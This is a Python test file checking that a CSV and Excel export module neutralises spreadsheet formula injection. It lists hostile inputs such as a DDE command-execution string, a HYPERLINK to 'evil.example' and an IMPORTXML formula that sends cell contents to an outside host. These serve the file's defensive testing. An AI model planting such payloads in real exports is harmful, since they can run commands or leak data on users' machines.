"""Exports open as inert text: formula payloads are neutralised in CSV and Excel."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from components.export import neutralize, to_csv, to_xlsx

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "@@",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_inert(payload: str) -> None:
    df = pd.DataFrame({"title": [payload], "n": [3]})
    rows = list(csv.reader(io.StringIO(to_csv(df).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "3"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel_cells_are_text_not_formulas(payload: str) -> None:
    df = pd.DataFrame({"title": [payload], "n": [3]})
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(df)))
    cell = wb.active.cell(row=2, column=1)
    assert cell.data_type == "s"
    # As Excel shows it: a carriage return is stored as "_x000D_" (an XML parser would turn a
    # raw one into a line feed); the cell stays inert text either way.
    shown = unescape(cell.value).replace("\n", "\r")
    assert shown == ("'" + payload).replace("\n", "\r")
    assert wb.active.cell(row=2, column=2).value == 3


def test_plain_text_and_numbers_untouched() -> None:
    assert neutralize("신기술") == "신기술"
    assert neutralize(-5) == -5
    assert to_csv(pd.DataFrame({"a": ["한글"]})).startswith(b"\xef\xbb\xbf")
